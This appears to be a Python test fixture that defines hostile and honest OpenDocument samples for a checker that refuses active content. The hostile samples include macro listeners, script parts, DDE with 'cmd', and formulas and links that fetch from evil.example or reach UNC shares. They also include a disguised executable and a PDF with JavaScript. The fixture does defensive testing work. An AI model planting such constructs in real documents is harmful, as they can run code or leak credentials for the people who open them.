"""OpenDocument files that listen, run or fetch; and those that only look so."""

from collections.abc import Mapping
from functools import partial

from storage.documents.checks.refusals import Reason
from tests.storage.documents.corpus.case import Case
from tests.storage.documents.corpus.making import archive, blank_pdf, image, text_document

SPREADSHEET = b"application/vnd.oasis.opendocument.spreadsheet"
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)
HREF = 'xlink:href="{}" xmlns:xlink="urn:xlink"'


def content(body: str) -> bytes:
    """An OpenDocument text of this body."""
    said = f'<?xml version="1.0"?><office:document-content xmlns:office="urn:o">{body}</office:document-content>'
    return text_document({"content.xml": said.encode()})


def cell(formula: str) -> bytes:
    """A spreadsheet of one formula."""
    body = f'<?xml version="1.0"?><o:c xmlns:o="urn:o" xmlns:t="urn:t"><t:cell t:formula="{formula}"/></o:c>'
    return archive({"mimetype": SPREADSHEET, "content.xml": body.encode()}, method=0)


def linked(element: str, target: str) -> str:
    """An element that names a target."""
    return f'<d:{element} xmlns:d="urn:d" {HREF.format(target)}/>'


HOSTILE: Mapping[str, str] = {
    "a listener": linked("event-listener", "vnd.sun.star.script:a.b?language=Basic"),
    "a listener under another prefix": '<z:event-listener xmlns:z="urn:s" z:event-name="dom:load"/>',
    "a script": '<office:script office:language="ooo:Basic">Sub Main</office:script>',
    "a script of a text": '<text:script xmlns:text="urn:t">x</text:script>',
    "a link to a macro": linked("a", "vnd.sun.star.script:Standard.Module1.Main"),
    "a link to a macro of old": linked("a", "macro:///Standard.Module1.Main()"),
    "a link that runs": linked("a", "javascript:alert(1)"),
    "a link to a share": linked("a", "\\\\evil.example\\a"),
    "a link to a share by file:": linked("a", "file://evil.example/a"),
    "a picture to fetch": linked("image", "http://evil.example/p.png"),
    "a picture on a share": linked("image", "//evil.example/a/p.png"),
    "a picture on a share by file:": linked("image", "file://evil.example/p.png"),
    "a section to fetch": linked("section-source", "https://evil.example/a.odt"),
    "a range to fetch": linked("cell-range-source", "https://evil.example/a.ods"),
    "a page in a frame": linked("floating-frame", "a.html"),
    "a plug-in": linked("plugin", "a"),
    "an applet": linked("applet", "a"),
    "an object of OLE": linked("object-ole", "./Object 1"),
    "an object to fetch": linked("object", "http://evil.example/a"),
    "a reload from elsewhere": linked("auto-reload", "http://evil.example/"),
    "a source of DDE": '<office:dde-source office:dde-application="cmd"/>',
    "a declaration of DDE": '<t:dde-connection-decl xmlns:t="urn:t" office:dde-application="cmd"/>',
    "a query": '<t:database-source-sql xmlns:t="urn:t"/>',
    "a button that runs": '<f:button xmlns:f="urn:f" f:action="macro:x"/>',
    "an entity": "<a/>",
}
HOSTILE_FORMULAS = (
    "of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)",
    "of:=WEBSERVICE(&quot;http://evil.example&quot;)",
    "of:='http://evil.example/a.ods'#$Feuille1.A1",
    "of:='file://evil.example/a.ods'#$Feuille1.A1",
    "of:=HYPERLINK(&quot;vnd.sun.star.script:a&quot;;&quot;Cliquez&quot;)",
)
HOSTILE_PARTS: Mapping[str, bytes] = {
    "Basic/Standard/Module1.xml": b"<a/>",
    "basic/standard/module1.xml": b"<a/>",
    "Scripts/python/a.py": b"import os",
    "Dialogs/Standard/a.xml": b"<a/>",
    "Object 1": OLD,
    "a.exe": b"MZ" + bytes(60),
    "Pictures/a.png": b"MZ" + bytes(60),
    "Pictures/b.hta": b"<html/>",
    "Pictures/c.svg": b"<svg><script/></svg>",
    "Pictures/d.pdf": blank_pdf().replace(b"/Type /Catalog", b"/OpenAction <</S/JavaScript/JS(a)>> /Type /Catalog"),
    "word/document.xml": b"<a/>",
    "Configurations2/menubar/menubar.xml": b'<m xmlns:menu="u" menu:id="vnd.sun.star.script:a"/>',
    "database/script": b"x",
}
HONEST: Mapping[str, str] = {
    "empty scripts": "<office:scripts/>",
    "a link": linked("a", "https://example.org/"),
    "a link to a neighbour": linked("a", "../annexe.odt"),
    "its picture": linked("image", "Pictures/a.png"),
    "its object": linked("object", "./Object 1"),
    "its model": linked("template", "file:///home/anne/modele.ott"),
    "a model elsewhere": linked("template", "https://example.org/modele.ott"),
    "a picture left on the writer's disk": linked("image", "file:///C:/Users/anne/photo.png"),
    "a form without address": f'<f:form xmlns:f="urn:f" {HREF.format("")}/>',
}
HONEST_PARTS: Mapping[str, bytes] = {
    "Pictures/a.png": image("PNG"),
    "Pictures/b.svg": b"<svg><path/></svg>",
    "Pictures/c.pdf": blank_pdf(),
    "media/image1.jpeg": image("JPEG"),
    "Thumbnails/thumbnail.png": image("PNG"),
    "Object 1/content.xml": b"<a/>",
    "ObjectReplacements/Object 1": b"VCLMTF",
    "Configurations2/accelerator/current.xml": b"",
    "layout-cache": b"\4\0",
    "manifest.rdf": b'<r:RDF xmlns:r="u"><r:type r:resource="http://docs.oasis-open.org/a"/></r:RDF>',
    "META-INF/documentsignatures.xml": b"<a/>",
}

CASES = (
    *(
        Case(f"an OpenDocument with {about}", "a.odt", partial(content, body), Reason.ACTIVE)
        for about, body in HOSTILE.items()
        if about != "an entity"
    ),
    Case(
        "an OpenDocument with an entity",
        "a.odt",
        lambda: text_document({"styles.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        Reason.ACTIVE,
    ),
    *(
        Case(f"a spreadsheet with the formula {formula}", "a.ods", partial(cell, formula), Reason.ACTIVE)
        for formula in HOSTILE_FORMULAS
    ),
    *(
        Case(f"an OpenDocument that carries {name}", "a.odt", partial(text_document, {name: part}), Reason.ACTIVE)
        for name, part in HOSTILE_PARTS.items()
    ),
    *(Case(f"an honest OpenDocument with {about}", "a.odt", partial(content, body)) for about, body in HONEST.items()),
    *(
        Case(f"an honest OpenDocument that carries {name}", "a.odt", partial(text_document, {name: part}))
        for name, part in HONEST_PARTS.items()
    ),
    Case("a spreadsheet with a sum", "a.ods", partial(cell, "of:=SUM([.A1:.A9])")),
    Case("a spreadsheet with a workbook of the disk", "a.ods", partial(cell, "of:='file:///C:/a.ods'#$F.A1")),
)
